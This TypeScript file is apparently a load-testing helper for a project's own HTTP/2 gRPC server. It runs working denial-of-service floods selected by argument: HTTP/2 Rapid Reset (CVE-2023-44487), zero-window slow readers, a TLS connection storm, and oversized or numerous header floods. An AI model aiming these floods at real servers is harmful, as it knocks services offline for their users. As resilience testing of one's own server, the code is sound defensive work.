/** Somebody who wants a server to serve nobody else: a process of its own that floods until it is told to stop. */
import { readFileSync } from 'node:fs';
import { connect as connectHttp2, constants, type ClientHttp2Session } from 'node:http2';
import { connect as connectTls } from 'node:tls';
import { parseArgs } from 'node:util';
import { journal } from '@pact-journal/journal-proto';
import { BOOT_PATH, BOOT_REQUEST } from '../secured/wire-client.ts';

const { values } = parseArgs({
  options: { kind: { type: 'string' }, address: { type: 'string' }, ca: { type: 'string' } },
});
const { kind = '', address = '', ca: caPath = '' } = values;
const token = process.env['FLOODER_TOKEN'] ?? '';
const ca = readFileSync(caPath);
const [host = '', port = ''] = address.split(':');
/** What it got done, for whoever wants to know whether it was a flood. */
let done = 0;
let refused = 0;

const STATUS_PATH = journal.ClusterServiceDefinition.getStatus.path;
const HEADERS = {
  ':method': 'POST',
  ':path': BOOT_PATH,
  'content-type': 'application/grpc',
  authorization: `Bearer ${token}`,
};

/** A connection as soon as the one before is gone; `onOpen` for each. */
function keepConnected(options: object, onOpen: (session: ClientHttp2Session) => void): void {
  const session = connectHttp2(`https://${address}`, { ca, ...options });
  session.on('error', () => undefined);
  session.once('remoteSettings', () => {
    onOpen(session);
  });
  session.once('close', () => {
    refused += 1;
    setTimeout(() => {
      keepConnected(options, onOpen);
    }, 1);
  });
}

/** Opens streams by the hundred and resets them as soon as the server has them (CVE-2023-44487). */
function rapidReset(session: ClientHttp2Session): void {
  if (session.closed || session.destroyed) return;
  const batch = Array.from({ length: 100 }, () => session.request(HEADERS).on('error', () => undefined));
  done += batch.length;
  // What is reset before it was sent is never sent.
  setImmediate(() => {
    for (const stream of batch) stream.close(constants.NGHTTP2_CANCEL);
    setImmediate(() => {
      rapidReset(session);
    });
  });
}

/** Asks for boots over and over and takes not one byte of their overlays. */
function readNothing(session: ClientHttp2Session): void {
  if (session.closed || session.destroyed) return;
  for (let count = 0; count < 100; count += 1) {
    const stream = session.request(HEADERS).on('error', () => undefined);
    stream.on('close', () => {
      refused += 1;
    });
    stream.end(BOOT_REQUEST);
    done += 1;
  }
}

/** New connections as fast as they are made: one half shakes hands and leaves, the other one never says a word. */
function storm(): void {
  const socket = connectTls({ host, port: Number(port), ca, ALPNProtocols: ['h2'] });
  const next = (): void => {
    socket.destroy();
    setImmediate(storm);
  };
  socket.once('secureConnect', () => {
    done += 1;
    next();
  });
  socket.once('error', () => {
    refused += 1;
    next();
  });
}

/** Calls whose headers are as large as the client can make them, and small ones that are many. */
function headers(session: ClientHttp2Session): void {
  if (session.closed || session.destroyed) return;
  const big = Object.fromEntries(
    Array.from({ length: 60 }, (_, at) => [`x-${String(at)}`, 'y'.repeat(1_000)]),
  );
  const many = Object.fromEntries(
    Array.from({ length: 120 }, (_, at) => [`x-${String(at)}-${String(done)}`, 'z']),
  );
  for (let count = 0; count < 20; count += 1) {
    const stream = session.request({ ...HEADERS, ':path': STATUS_PATH, ...(count % 2 === 0 ? big : many) });
    stream.on('error', () => undefined).resume();
    stream.end();
    done += 1;
  }
  setTimeout(() => {
    headers(session);
  }, 1);
}

switch (kind) {
  case 'rapid reset':
    for (let count = 0; count < 4; count += 1) keepConnected({}, rapidReset);
    break;
  case 'slow readers':
    for (let count = 0; count < 100; count += 1)
      keepConnected({ settings: { initialWindowSize: 0 } }, readNothing);
    break;
  case 'connection storm':
    for (let count = 0; count < 64; count += 1) storm();
    break;
  case 'header flood':
    for (let count = 0; count < 4; count += 1)
      keepConnected({ maxSendHeaderBlockLength: 1024 * 1024 }, headers);
    break;
  default:
    throw new Error(`there is no flood ${kind}`);
}
process.on('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify({ done, refused })}\n`, () => process.exit(0));
});
